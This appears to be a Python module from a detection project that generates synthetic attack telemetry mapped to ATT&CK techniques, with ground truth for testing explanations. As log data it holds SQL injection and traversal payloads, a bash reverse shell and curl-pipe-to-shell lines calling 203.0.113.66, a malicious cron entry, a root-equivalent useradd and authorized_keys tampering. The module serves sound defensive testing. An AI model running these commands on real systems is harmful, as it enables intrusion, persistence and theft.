"""Attack techniques as telemetry: what each leaves behind in the bundled shop and its company.

Each is a generator of visits to the shop or of events of the estate, with its own ground truth: when, where,
and what an explanation should name. Nothing is attacked; the records are sent to Vedette's own doors.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

import numpy as np

from vedette.simulate.attacks import ATTACKS, visits
from vedette.simulate.estate import CLOUD, EGRESS, HOSTS, LOGINS, Record, cloud_call, login, process, way_out
from vedette.simulate.model import Visit

Event = Visit | Record
Play = Callable[[float, float, np.random.Generator, float], Iterator[Event]]
"""Begin and end (epoch seconds), chance, intensity; yields in order of time."""

SHOP: Final = "shop"
STRANGER: Final = "203.0.113.66"

WORDS: Final = ("admin", "backup", "old", "test", "config", "private", "api", "dev", "db", "log", "tmp", "console")


@dataclass(frozen=True, slots=True)
class Technique:
    """A technique and its ground truth.

    Parameters
    ----------
    id, title
        Of ATT&CK 19.1.
    service
        Whose telemetry shows it.
    seconds
        How long it goes on.
    quiet
        Whether it is played at a quiet hour of the night.
    names
        Words of which one must stand in the explanation: a feature, or part of an item or of evidence.
    play
        Makes its events.
    """

    id: str
    title: str
    service: str
    seconds: float
    quiet: bool
    names: tuple[str, ...]
    play: Play


def _paced(start: float, end: float, rng: np.random.Generator, rate: float) -> Iterator[float]:
    moment = start + float(rng.exponential(1 / rate))
    while moment < end:
        yield moment
        moment += float(rng.exponential(1 / rate))


def _login_visit(moment: float, client: str, user: str, status: int) -> Visit:
    body = {"name": user, "password": "Summer2026!"}
    return Visit(moment, "POST", "/login", "/login", client, user, 0.06, status, body)


def _guessing(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """One account, many passwords, from one address."""
    for moment in _paced(start, end, rng, 1.5 * intensity):
        yield _login_visit(moment, STRANGER, "user17", 401)


def _spraying(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """One password, many accounts, from four addresses."""
    for number, moment in enumerate(_paced(start, end, rng, 1.5 * intensity)):
        yield _login_visit(moment, f"203.0.113.{80 + number % 4}", f"user{number % 300}", 401)


def _valid_account(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """An admin's own key, at night, from an address of nobody's."""
    for moment in _paced(start, end, rng, 0.03 * intensity):
        yield login(moment, "db-1", "ana", STRANGER)


def _injected_query(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    payloads = (
        "lamp'+UNION+SELECT+name,password+FROM+users--",
        "lamp'+OR+'1'='1",
        "..%2f..%2f..%2fetc%2fpasswd",
        "lamp'+AND+SLEEP(3)--",
    )
    for number, moment in enumerate(_paced(start, end, rng, 0.8 * intensity)):
        status = 500 if number % 3 == 0 else 200
        path = f"/search?q={payloads[number % len(payloads)]}"
        yield Visit(moment, "GET", "/search", path, STRANGER, "", 0.06, status)


def _injected_body(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    yield from visits(ATTACKS["sqli"], start, end, int(rng.integers(1 << 30)), intensity)


def _vulnerability_scan(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """What a scanner asks for: known holes, with payloads in every parameter."""
    holes = (
        "/.git/config",
        "/.env",
        "/wp-admin/setup-config.php",
        "/cgi-bin/test.cgi",
        "/server-status",
        "/actuator/env",
        "/phpinfo.php?x=<script>alert(1)</script>",
        "/solr/admin/info/system?wt=json",
    )
    for number, moment in enumerate(_paced(start, end, rng, 4.0 * intensity)):
        yield Visit(moment, "GET", "", holes[number % len(holes)], STRANGER, "", 0.01, 404)


def _wordlist_scan(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    for moment in _paced(start, end, rng, 4.0 * intensity):
        word = WORDS[int(rng.integers(len(WORDS)))]
        yield Visit(moment, "GET", "", f"/{word}{int(rng.integers(1, 999))}.php", STRANGER, "", 0.01, 404)


def _exfiltration(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """The customer table, in pieces, to a place nobody sends to, at an hour when nobody sends."""
    for moment in _paced(start, end, rng, 0.15 * intensity):
        yield way_out(moment, "db-1", "files.drop.example", "/upload", round(8e6 * float(rng.lognormal(0, 0.2))), 40)


def _flood(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    for number, moment in enumerate(_paced(start, end, rng, 40.0 * intensity)):
        client = f"198.51.100.{number % 60}"
        yield Visit(moment, "GET", "/", "/", client, "", 0.2, 503 if number % 4 == 0 else 200)


def _shell(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """The web server starts a shell, which looks around and calls home."""
    commands = (
        "sh -c id; uname -a; cat /etc/passwd",
        "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        "sh -c curl -s http://203.0.113.66/x.sh | bash",
        "sh -c whoami; hostname; ls -la /home",
    )
    for number, moment in enumerate(_paced(start, end, rng, 0.05 * intensity)):
        command = commands[number % len(commands)]
        image = "/usr/bin/bash" if command.startswith("bash") else "/usr/bin/sh"
        yield process(moment, "web-1", "www-data", image, command, "/usr/sbin/nginx")


def _cron(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    for moment in _paced(start, end, rng, 0.03 * intensity):
        command = "sh -c echo '*/5 * * * * curl -s http://203.0.113.66/x.sh | sh' | crontab -"
        yield process(moment, "web-1", "www-data", "/usr/bin/crontab", command, "/usr/bin/sh")


def _account(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    for number, moment in enumerate(_paced(start, end, rng, 0.03 * intensity)):
        command = f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support{number}"
        yield process(moment, "web-1", "root", "/usr/sbin/useradd", command, "/usr/bin/bash")


def _manipulation(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """A key of the attacker's in root's list, and an account in the group of administrators."""
    commands = (
        ("/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
        ("/usr/sbin/usermod", "usermod -aG sudo support0"),
        ("/usr/bin/chattr", "chattr +i /root/.ssh/authorized_keys"),
    )
    for number, moment in enumerate(_paced(start, end, rng, 0.05 * intensity)):
        image, command = commands[number % len(commands)]
        yield process(moment, "web-1", "root", image, command, "/usr/bin/bash")


def _beacon(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """A small request each ten seconds, on the dot, to a place never asked before."""
    moment = start
    while moment < end:
        yield way_out(moment + float(rng.uniform(0, 0.3)), "web-2", "cdn-sync.example", "/a", 210, 90)
        moment += 10.0 / intensity


def _bucket(start: float, end: float, rng: np.random.Generator, intensity: float) -> Iterator[Event]:
    """Every customer's document, by a role that never read one, from outside."""
    yield cloud_call(start, "s3", "ListBuckets", "ci-runner", STRANGER)
    yield cloud_call(start + 1, "s3", "GetBucketAcl", "ci-runner", STRANGER, bucketName="customer-documents")
    for moment in _paced(start + 2, end, rng, 1.0 * intensity):
        key = f"contracts/{int(rng.integers(1, 9999))}.pdf"
        yield cloud_call(moment, "s3", "GetObject", "ci-runner", STRANGER, bucketName="customer-documents", key=key)


TECHNIQUES: Final = {
    technique.id if technique.id != "T1190" or technique.play is _injected_query else "T1190/json": technique
    for technique in (
        Technique("T1110.001", "Password Guessing", SHOP, 240, False, ("denied",), _guessing),
        Technique("T1110.003", "Password Spraying", SHOP, 240, False, ("denied",), _spraying),
        Technique("T1078", "Valid Accounts", LOGINS, 300, True, ("client", "rule"), _valid_account),
        Technique(
            "T1190", "Exploit Public-Facing Application", SHOP, 240, False, ("request_shape", "rule"), _injected_query
        ),
        Technique("T1190", "Exploit Public-Facing Application", SHOP, 240, False, ("request_shape",), _injected_body),
        Technique("T1595.002", "Vulnerability Scanning", SHOP, 240, False, ("missing", "rule"), _vulnerability_scan),
        Technique("T1595.003", "Wordlist Scanning", SHOP, 240, False, ("missing",), _wordlist_scan),
        Technique(
            "T1048",
            "Exfiltration Over Alternative Protocol",
            EGRESS,
            300,
            True,
            ("request_bytes", "endpoint"),
            _exfiltration,
        ),
        Technique("T1498", "Network Denial of Service", SHOP, 240, False, ("requests",), _flood),
        Technique("T1059.004", "Unix Shell", HOSTS, 240, False, ("rule", "template"), _shell),
        Technique("T1053.003", "Cron", HOSTS, 240, False, ("rule", "template"), _cron),
        Technique("T1136", "Create Account", HOSTS, 240, False, ("rule", "template"), _account),
        Technique("T1098", "Account Manipulation", HOSTS, 240, False, ("rule", "template"), _manipulation),
        Technique("T1071", "Application Layer Protocol", EGRESS, 300, True, ("endpoint",), _beacon),
        Technique(
            "T1530", "Data from Cloud Storage", CLOUD, 300, True, ("client", "user", "template", "rule"), _bucket
        ),
    )
}
"""By ATT&CK id; ``T1190/json`` is the same technique in a JSON body."""
